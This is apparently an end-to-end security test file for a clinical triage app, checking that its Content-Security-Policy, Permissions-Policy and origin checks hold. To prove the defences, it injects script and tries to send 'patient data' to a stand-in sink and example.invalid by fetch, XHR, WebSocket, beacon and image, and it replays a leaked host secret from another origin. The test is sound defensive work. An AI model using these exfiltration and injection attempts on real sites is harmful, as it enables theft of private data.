/**
 * The app's page defences in Chromium, against the real app served by the browser host
 * and signed in: the Content-Security-Policy stops injected script and every way of
 * sending data elsewhere; the Permissions-Policy refuses location, camera and microphone
 * even where the browser has granted them; and a page of another origin cannot call the
 * host's contract, even knowing its secret.
 *
 * Two more loopback servers stand in for the outside world: `sink` must never receive a
 * request (whatever reaches it escaped the app), and `elsewhere` serves a page without the
 * app's headers, as a control that the same calls succeed where nothing forbids them, and
 * as the other-origin page that tries to call the host.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { chromium, type Browser, type BrowserContext, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { HOST_KEY_HEADER } from '../../electron/host/server';
import { startAppHost, type RunningAppHost } from '../helpers/app-host';
import { assertChromium, CHROMIUM_ARGS, CHROMIUM_PATH } from '../helpers/chromium';
import { signInToApp } from '../helpers/sign-in';

interface Violation {
  directive: string;
  blockedURI: string;
}

interface Listening {
  server: Server;
  origin: string;
  requests: string[];
}

let running: RunningAppHost;
let browser: Browser;
let context: BrowserContext;
let page: Page;
let sink: Listening;
let elsewhere: Listening;
/** Every contract call the host dispatched, by channel. */
const calls: string[] = [];

const CONTROL_PAGE = '<!doctype html><html lang="en"><title>Another site</title><p>Another site</p></html>';

async function listen(answer: (path: string) => { type: string; body: string }): Promise<Listening> {
  const requests: string[] = [];
  const server = createServer((request, response) => {
    requests.push(`${request.method ?? ''} ${request.url ?? ''}`);
    const { type, body } = answer(request.url ?? '/');
    response.writeHead(200, { 'Content-Type': type, 'Cache-Control': 'no-store' });
    response.end(body);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return { server, origin: `http://127.0.0.1:${port}`, requests };
}

async function close(listening: Listening | undefined): Promise<void> {
  if (!listening) return;
  listening.server.closeAllConnections();
  await new Promise<void>((resolve) => listening.server.close(() => resolve()));
}

/** Counts every handler call the host makes, so "the host was not called" is observed, not assumed. */
function countCalls(target: RunningAppHost): void {
  const handlers = target.app.handlers as unknown as Record<string, (input: unknown) => Promise<unknown>>;
  for (const [name, handler] of Object.entries(handlers)) {
    handlers[name] = (input: unknown) => {
      calls.push(name);
      return handler(input);
    };
  }
}

async function violations(): Promise<Violation[]> {
  return page.evaluate(() => (window as unknown as { __violations?: Violation[] }).__violations ?? []);
}

async function violationsAfter(count: number): Promise<Violation[]> {
  return (await violations()).slice(count);
}

beforeAll(async () => {
  assertChromium();
  running = await startAppHost();
  countCalls(running);
  sink = await listen(() => ({ type: 'text/plain', body: 'received' }));
  elsewhere = await listen(() => ({ type: 'text/html; charset=utf-8', body: CONTROL_PAGE }));
  browser = await chromium.launch({
    executablePath: CHROMIUM_PATH,
    headless: true,
    // A fake camera and microphone, and a media prompt that says yes: only a policy can refuse them.
    args: [...CHROMIUM_ARGS, '--use-fake-device-for-media-stream', '--use-fake-ui-for-media-stream'],
  });
  context = await browser.newContext({
    viewport: { width: 1366, height: 900 },
    locale: 'en-GB',
    timezoneId: 'Europe/London',
    geolocation: { latitude: 51.5, longitude: -0.12 },
  });
  // As if the user had allowed these for both sites: what still refuses them on the app is its own policy.
  for (const origin of [running.host.origin, elsewhere.origin])
    await context.grantPermissions(['geolocation', 'camera', 'microphone'], { origin });
  page = await context.newPage();
  await page.goto(running.host.url);
  await signInToApp(page, running, 'Dr Amara Okoye', /\(R69\)/);
  await page.getByTestId('worklist-row').first().waitFor();
  await page.evaluate(() => {
    const seen: Violation[] = [];
    (window as unknown as { __violations: Violation[] }).__violations = seen;
    document.addEventListener('securitypolicyviolation', (event) =>
      seen.push({ directive: event.effectiveDirective, blockedURI: event.blockedURI }),
    );
  });
}, 60_000);

afterAll(async () => {
  await browser?.close();
  await running?.close();
  await close(sink);
  await close(elsewhere);
});

describe('the Content-Security-Policy of the signed-in app', () => {
  it('blocks an injected inline script, an inline event handler and eval', async () => {
    const before = (await violations()).length;
    const ran = await page.evaluate(async () => {
      const flags = window as unknown as { __inline?: boolean; __handler?: boolean; __eval?: boolean };
      const script = document.createElement('script');
      script.textContent = 'window.__inline = true;';
      document.head.append(script);
      const img = document.createElement('img');
      img.setAttribute('onerror', 'window.__handler = true;');
      img.src = '/no-such-image.png';
      document.body.append(img);
      // Wait for the image to fail: its inline handler, listening before this one, would
      // have run by now. Code evaluated by the test itself is exempt from the page's CSP
      // until its first await; from here on it runs as the page's own script would.
      await new Promise((resolve) => img.addEventListener('error', resolve, { once: true }));
      let evalRefused = false;
      try {
        (0, eval)('window.__eval = true;');
      } catch (error) {
        evalRefused = error instanceof EvalError;
      }
      script.remove();
      img.remove();
      return { inline: flags.__inline === true, handler: flags.__handler === true, eval: flags.__eval === true, evalRefused };
    });
    expect(ran).toEqual({ inline: false, handler: false, eval: false, evalRefused: true });
    await expect
      .poll(async () => (await violationsAfter(before)).map((v) => v.directive).sort())
      .toEqual(['script-src', 'script-src-attr', 'script-src-elem']);
    const inline = (await violationsAfter(before)).find((v) => v.directive === 'script-src-elem');
    expect(inline?.blockedURI).toBe('inline');
  });

  it('refuses to send anything to another origin: fetch to another loopback port and to a remote https site, XHR, WebSocket, beacon, image', async () => {
    const before = (await violations()).length;
    const sinkUrl = `${sink.origin}/exfiltrate`;
    const results = await page.evaluate(async (target) => {
      const outcome = async (attempt: () => Promise<unknown>): Promise<string> => {
        try {
          await attempt();
          return 'sent';
        } catch (error) {
          return error instanceof Error ? error.name : 'refused';
        }
      };
      const fetchSink = await outcome(() => fetch(`${target}?via=fetch`, { method: 'POST', body: 'patient data' }));
      const fetchNoCors = await outcome(() => fetch(`${target}?via=no-cors`, { mode: 'no-cors' }));
      const fetchRemote = await outcome(() => fetch('https://example.invalid/collect?via=fetch'));
      const xhr = await new Promise<string>((resolve) => {
        const request = new XMLHttpRequest();
        try {
          request.open('GET', `${target}?via=xhr`);
          request.onload = () => resolve('sent');
          request.onerror = () => resolve('refused');
          request.send();
        } catch (error) {
          resolve(error instanceof Error ? error.name : 'refused');
        }
      });
      const socket = await new Promise<string>((resolve) => {
        try {
          const ws = new WebSocket(`${target.replace('http:', 'ws:')}?via=ws`);
          ws.onopen = () => resolve('sent');
          ws.onerror = () => resolve('refused');
        } catch (error) {
          resolve(error instanceof Error ? error.name : 'refused');
        }
      });
      let beacon: string;
      try {
        beacon = navigator.sendBeacon(`${target}?via=beacon`, 'patient data') ? 'queued' : 'refused';
      } catch (error) {
        beacon = error instanceof Error ? error.name : 'refused';
      }
      const image = await new Promise<string>((resolve) => {
        const img = new Image();
        img.onload = () => resolve('sent');
        img.onerror = () => resolve('refused');
        img.src = `${target}?via=image`;
      });
      return { fetchSink, fetchNoCors, fetchRemote, xhr, socket, beacon, image };
    }, sinkUrl);

    expect(results.fetchSink).toBe('TypeError');
    expect(results.fetchNoCors).toBe('TypeError');
    expect(results.fetchRemote).toBe('TypeError');
    expect(results.xhr).toBe('refused');
    expect(results.socket).not.toBe('sent');
    expect(results.image).toBe('refused');
    expect(['refused', 'queued']).toContain(results.beacon);

    await expect
      .poll(async () => (await violationsAfter(before)).filter((v) => v.directive === 'connect-src').length)
      .toBeGreaterThanOrEqual(4);
    const blocked = await violationsAfter(before);
    expect(blocked.some((v) => v.directive === 'connect-src' && v.blockedURI.startsWith(sink.origin))).toBe(true);
    expect(blocked.some((v) => v.directive === 'connect-src' && v.blockedURI.startsWith('https://example.invalid'))).toBe(true);
    expect(blocked.some((v) => v.directive === 'img-src' && v.blockedURI.startsWith(sink.origin))).toBe(true);
    // A queued beacon goes out in the background: wait until the page has refused it (its
    // connect-src violation), so it cannot arrive later.
    if (results.beacon === 'queued') {
      await expect
        .poll(async () => (await violationsAfter(before)).some((v) => v.directive === 'connect-src' && v.blockedURI.includes('via=beacon')))
        .toBe(true);
    }
    expect(sink.requests).toEqual([]);
  });
});

describe('permissions on the app page', () => {
  async function ask(target: Page): Promise<{ geolocation: string; media: string }> {
    return target.evaluate(async () => {
      const geolocation = await new Promise<string>((resolve) =>
        navigator.geolocation.getCurrentPosition(
          () => resolve('granted'),
          (error) => resolve(error.code === error.PERMISSION_DENIED ? 'denied' : `error ${error.code}`),
          { timeout: 5000 },
        ),
      );
      let media: string;
      try {
        const stream = await navigator.mediaDevices.getUserMedia({ video: true, audio: true });
        media = `granted ${stream.getTracks().length} tracks`;
        for (const track of stream.getTracks()) track.stop();
      } catch (error) {
        media = error instanceof Error ? error.name : 'refused';
      }
      return { geolocation, media };
    });
  }

  it('another site in the same browser gets location, camera and microphone (the control)', async () => {
    const other = await context.newPage();
    try {
      await other.goto(`${elsewhere.origin}/`);
      expect(await ask(other)).toEqual({ geolocation: 'granted', media: 'granted 2 tracks' });
    } finally {
      await other.close();
    }
  });

  it('the app refuses location, camera and microphone though the browser allowed them: its Permissions-Policy', async () => {
    const response = await page.request.get(`${running.host.origin}/`);
    const policy = response.headers()['permissions-policy'] ?? '';
    for (const feature of ['camera=()', 'microphone=()', 'geolocation=()']) expect(policy).toContain(feature);
    expect(await ask(page)).toEqual({ geolocation: 'denied', media: 'NotAllowedError' });
  });

  it('the app gets no notification permission', async () => {
    // No Permissions-Policy feature covers notifications, so in the browser host it is the
    // browser's own prompt that refuses (headless Chromium, nothing granted); in Electron,
    // permissionDecision() refuses it and every other request (tests/unit/security/navigation-guard.test.ts).
    const answer = await page.evaluate(async () => ({ requested: await Notification.requestPermission(), now: Notification.permission }));
    expect(answer).toEqual({ requested: 'denied', now: 'denied' });
  });
});

describe('another origin calling the host', () => {
  it('cannot call the contract, with or without the secret, and the host dispatches nothing for it', async () => {
    // The control: the app's own page, with the secret it keeps, is answered, and the counter sees it.
    const own = calls.length;
    const status = await page.evaluate(async (header) => {
      const response = await fetch('/api/invoke/app.info', {
        method: 'POST',
        headers: { 'Content-Type': 'application/json', [header]: sessionStorage.getItem('triage-host-key') ?? '' },
        body: '{}',
      });
      return response.status;
    }, HOST_KEY_HEADER);
    expect(status).toBe(200);
    expect(calls.slice(own)).toContain('app.info');

    const other = await context.newPage();
    try {
      await other.goto(`${elsewhere.origin}/`);
      const before = calls.length;
      const attempts = await other.evaluate(
        async ({ host, header, secret }) => {
          const outcome = async (attempt: () => Promise<Response>): Promise<string> => {
            try {
              const response = await attempt();
              return response.type === 'opaque' ? 'opaque' : `status ${response.status}: ${await response.text()}`;
            } catch (error) {
              return error instanceof Error ? error.name : 'refused';
            }
          };
          const url = `${host}/api/invoke/app.info`;
          return {
            // A leaked secret still needs a CORS preflight, which the host never grants.
            withSecret: await outcome(() =>
              fetch(url, { method: 'POST', headers: { 'Content-Type': 'application/json', [header]: secret }, body: '{}' }),
            ),
            withoutSecret: await outcome(() => fetch(url, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: '{}' })),
            // A "simple" request goes out without a preflight; the host refuses it by its Origin.
            simple: await outcome(() =>
              fetch(url, { method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'text/plain' }, body: '{}' }),
            ),
            events: await outcome(() => fetch(`${host}/api/events`)),
          };
        },
        { host: running.host.origin, header: HOST_KEY_HEADER, secret: running.host.secret },
      );
      expect(attempts).toEqual({ withSecret: 'TypeError', withoutSecret: 'TypeError', simple: 'opaque', events: 'TypeError' });
      // Every attempt above has had its answer (or its refused preflight), and the host
      // counts a call before it answers: nothing is left to arrive. The app page may make
      // calls of its own meanwhile; the attacker asked only for app.info.
      expect(calls.slice(before).filter((name) => name === 'app.info')).toEqual([]);
    } finally {
      await other.close();
    }
  });

  it("cannot open the host's WebSocket, even with the secret, and the host dispatches nothing for it", async () => {
    const other = await context.newPage();
    try {
      await other.goto(`${elsewhere.origin}/`);
      const before = calls.length;
      const attempt = (protocols: string[]) =>
        other.evaluate(
          ({ url, offered }) =>
            new Promise<string>((resolve) => {
              const ws = new WebSocket(url, offered);
              ws.onopen = () => {
                ws.send(JSON.stringify({ id: 1, channel: 'app.info', input: {} }));
                resolve('open');
              };
              ws.onclose = () => resolve('refused');
            }),
          { url: `${running.host.origin.replace('http:', 'ws:')}/api/socket`, offered: protocols },
        );
      // WebSockets are not bound by CORS: the host's Origin check is what refuses them.
      expect(await attempt(['triage-host.v1', `key.${running.host.secret}`])).toBe('refused');
      expect(await attempt(['triage-host.v1'])).toBe('refused');
      expect(calls.slice(before).filter((name) => name === 'app.info')).toEqual([]);
    } finally {
      await other.close();
    }
  });

  it('the host itself refuses another Origin before the secret is even looked at', async () => {
    const before = calls.length;
    const response = await fetch(`${running.host.origin}/api/invoke/app.info`, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json', Origin: elsewhere.origin, [HOST_KEY_HEADER]: running.host.secret },
      body: '{}',
    });
    expect(response.status).toBe(403);
    expect(calls.slice(before).filter((name) => name === 'app.info')).toEqual([]);
  });
});
